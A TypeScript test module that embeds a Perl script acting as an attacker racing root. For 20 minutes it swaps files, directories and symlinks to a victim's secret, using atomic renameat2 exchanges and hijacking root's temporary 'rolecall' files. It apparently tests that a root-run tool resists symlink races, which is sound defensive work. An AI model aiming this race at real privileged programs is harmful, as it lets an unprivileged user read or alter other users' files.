/**
 * What eve runs while root works in her directories: perl, which every Debian has, some 100,000 renames a second. It takes the directory of
 * the victim, her own, the directory in hers that she swaps, `dir` or `file` (what root is to make), what a file of hers says, and the names that root is to work
 * with, and ends after 20 minutes.
 *
 * - A name becomes, in turn, a file of hers (a directory, where root is to make one), a link to root's secret, a link to root's directory, a directory of hers, or nothing.
 *   A link, and a directory in the place of a file, mostly stands there for a moment only: what finds it there is refused before it has done anything.
 * - Every second swap exchanges the name and a link in one step (RENAME_EXCHANGE of renameat2(2)): there is no moment without either.
 * - Whatever looks like a temporary file of root's is moved away, and a link stands in its place.
 *   Five sixths of the time that is all, so that root comes to what is done last.
 * - Names are laid beforehand for temporary files that may come, and for old copies.
 */
export const attacker = String.raw`
use strict; use warnings; no warnings; use POSIX ();
my ($victim, $home, $within, $sort, $text, @names) = @ARGV;
my ($n, $mode) = (0, 0);
my $renameat2 = (POSIX::uname())[4] =~ /^(aarch64|riscv64)/ ? 276 : 316;
my @targets = ("$victim/secret", "$victim/dir", "$victim/dir/inside", "$victim/nothing");
sub away { my ($p) = @_; unlink $p or rmdir $p or rename $p, "$home/away." . int(rand 50) or rename $p, "$p." . int(rand 9e9) }
sub lay { my ($p, $to) = @_; my $t = "$home/t$$"; unlink $t; symlink $to, $t; rename $t, $p or do { away($p); rename $t, $p } }
sub own { my ($p) = @_; my $t = "$home/t$$"; unlink $t;
  if ($sort eq 'dir') { rmdir $t; mkdir $t, 0711; rename $t, $p or do { away($p); rename $t, $p }; return }
  open my $f, '>', $t or return; print $f "$text\n"; close $f; rename $t, $p or do { away($p); rename $t, $p } }
sub spin { my ($s) = @_; for (my $i = rand $s; $i > 0; $i--) {} }
sub exchange { my ($one, $other) = @_; return 0 == syscall $renameat2, -100, $one, -100, $other, 2 }
# A link in the place of a name for a moment, in one step there and back.
sub flash { my ($p, $s) = @_;
  my $t = "$home/x$$"; unlink $t; symlink $targets[rand @targets], $t;
  if (exchange($t, $p)) { spin($s); exchange($t, $p) }
}
sub toggle { my ($p) = @_;
  my $r = int rand 10;
  if ($r > 7) { flash($p, 3000) }
  elsif ($r < 2) { lay($p, $targets[rand @targets]); if (rand(5) > 1) { spin(3000); own($p) } }
  elsif ($r < 5) { own($p) }
  elsif ($r == 5) { away($p); mkdir $p, 0711; if ($sort ne 'dir' && rand(5) > 1) { spin(3000); rmdir $p; own($p) } }
  elsif ($r == 6) { if (rename $p, "$p.kept") { symlink $targets[rand @targets], $p; spin(3000); unlink $p; rename "$p.kept", $p } }
  else { away($p) }
}
sub swap { my ($d) = @_;
  if (rand(2) < 1) { flash($d, 8000) }
  elsif (rename $d, "$d.real") { symlink $targets[rand @targets], $d; spin(8000); unlink $d; rename "$d.real", $d }
  else { unlink $d; rename "$d.real", $d or mkdir $d }
}
sub hunt { my ($d) = @_;
  opendir my $h, $d or return;
  for my $e (readdir $h) {
    next unless $e =~ /rolecall\.|~$/ && $e !~ /moved/;
    next if -l "$d/$e" && rand(3) < 2;
    if (rand(3) < 1) { flash("$d/$e", 5000); next }
    if (rename "$d/$e", "$d/moved.$$") {
      symlink $targets[rand @targets], "$d/$e"; spin(5000);
      if (rand(2) < 1) { unlink "$d/$e"; rename "$d/moved.$$", "$d/$e" }
      else { unlink "$d/moved.$$"; rmdir "$d/moved.$$" or rename "$d/moved.$$", "$d/away." . int(rand 50) }
    }
  }
}
sub plant { my ($d, $name) = @_;
  my $p = "$d/.$name.rolecall." . join '', map { ('a' .. 'z')[rand 26] } 1 .. 6;
  rand(2) < 1 ? symlink($targets[rand @targets], $p) : mkdir $p;
  unlink $p or rmdir $p if rand(4) < 3;
}
while (1) {
  last if $n++ % 1000 == 0 && time - $^T > 1200;
  my $d = rand(3) < 1 ? "$home/$within" : $home;
  my $name = $names[rand @names];
  $mode = int rand 6 if $n % 3000 == 0;
  my $r = $mode == 0 ? rand 10 : 3.1 + rand 7;
  if ($r < 2) { toggle("$d/$name") }
  elsif ($r < 3) { swap("$home/$within") }
  elsif ($r < 3.2) { plant($d, $name) }
  else { hunt($d) }
  spin(2000) if rand(4) < 1;
}
`
